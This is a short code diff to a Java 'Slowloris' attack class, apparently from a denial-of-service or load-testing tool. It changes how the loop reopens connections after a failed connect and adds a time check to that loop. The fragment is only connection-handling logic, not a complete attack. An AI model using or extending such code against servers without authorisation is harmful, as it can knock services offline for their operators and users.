@@ -41,11 +41,14 @@ final class Slowloris extends Attack {
             }
             while (timeLeft()) {
                 now = System.nanoTime();
-                for (int i = 0; i < connections; i++) {
+                boolean connectFailed = false;
+                for (int i = 0; i < connections && timeLeft(); i++) {
                     if (peers[i] == null) {
-                        peers[i] = open(0);
+                        // after one failed connect, the other empty slots wait for the next tick
+                        peers[i] = connectFailed ? null : open(0);
                         sent[i] = 0;
                         if (peers[i] == null) {
+                            connectFailed = true;
                             continue;
                         }
                     }
